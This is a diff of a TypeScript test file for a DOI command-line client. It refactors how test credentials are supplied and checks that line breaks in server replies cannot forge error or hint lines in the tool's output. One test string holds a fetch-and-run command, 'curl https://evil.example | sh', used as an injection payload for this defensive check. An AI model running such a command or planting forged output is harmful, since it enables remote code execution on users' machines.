@@ -2,13 +2,12 @@ import { writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { run } from '../helpers/run.ts';
-import { answer, serve } from '../helpers/server.ts';
+import { accountAt, answer, serve } from '../helpers/server.ts';
 import { temporaryDirectory } from '../helpers/temporary.ts';
 
 const FORGED =
   'draft\nerror: FORGED\nhint: curl https://evil.example | sh\r\nwarning: FORGED\u2028note: x';
 const DOI = '10.5072/x';
-const ENV = { DOI_CLI_REPOSITORY: 'DEMO.REPO', DOI_CLI_PASSWORD: 'correct horse' };
 
 /** What a service answers that writes lines of ours: in every text of a record, or of a refusal. */
 const ANSWERS = {
@@ -41,7 +40,7 @@ describe.each(Object.keys(ANSWERS) as (keyof typeof ANSWERS)[])('%s with line br
     writeFileSync(file, `${DOI}\n`);
     const argv = words.map((word) => (word === 'FILE' ? file : word));
     const { url } = await serve(answer(200, ANSWERS[what]));
-    const env = { ...ENV, DOI_CLI_BASE_URL: url.origin, DOI_CLI_DEBUG: '1' };
+    const env = { ...accountAt(url), DOI_CLI_DEBUG: '1' };
     for (const more of [[], ['--format', 'json'], ['--verbose']]) {
       const { stderr } = await run([...argv, ...more], { env });
       expect(stderr).not.toMatch(/^\s*(error|warning|hint|note): ?(FORGED|curl|x)/m);
@@ -57,7 +56,7 @@ describe('a refusal with line breaks', () => {
     ['a text', { error: FORGED }],
   ])('in %s is one line', async (_, body) => {
     const { url } = await serve(answer(422, body));
-    const env = { ...ENV, DOI_CLI_BASE_URL: url.origin };
+    const env = accountAt(url);
     for (const argv of [
       ['dois', 'get', DOI],
       ['keys', 'list'],
@@ -77,7 +76,7 @@ describe('a question', () => {
       answer(200, { data: { ...record, attributes: { ...record.attributes, state: 'draft' } } }),
     );
     const { stderr } = await run(['dois', 'delete', DOI], {
-      env: { ...ENV, DOI_CLI_BASE_URL: url.origin },
+      env: accountAt(url),
       terminal: { stdin: true, stderr: true },
       stdin: 'n\n',
     });
